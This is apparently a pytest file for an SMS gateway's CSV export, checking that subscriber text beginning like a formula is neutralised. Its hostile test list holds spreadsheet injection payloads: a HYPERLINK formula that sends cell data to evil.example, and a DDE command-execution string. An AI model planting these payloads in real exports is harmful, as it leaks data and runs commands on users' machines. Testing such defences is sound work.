"""CSV export cells: a subscriber's text never reaches a spreadsheet as a live formula."""

from __future__ import annotations

import csv
import io

import pytest

from sms_gateway.export import csv_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_is_neutralised(value: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(value)])
    (cell,) = next(csv.reader(io.StringIO(out.getvalue())))
    assert cell == "'" + value


@pytest.mark.parametrize("value", ["0012345679", "1234567804121", "516700544744", "Meter is outside", "", "۱۲۳"])
def test_identifiers_and_plain_text_are_kept_as_they_are(value: str) -> None:
    assert csv_cell(value) == value


def test_a_mobile_stays_text_and_numbers_and_json_are_written_as_text() -> None:
    assert csv_cell("+989121234567") == "'+989121234567"
    assert csv_cell(132000) == 132000 and csv_cell(None) is None
    assert csv_cell({"mid": "04620"}) == '{"mid": "04620"}'
    assert csv_cell(["=x"]) == '["=x"]'
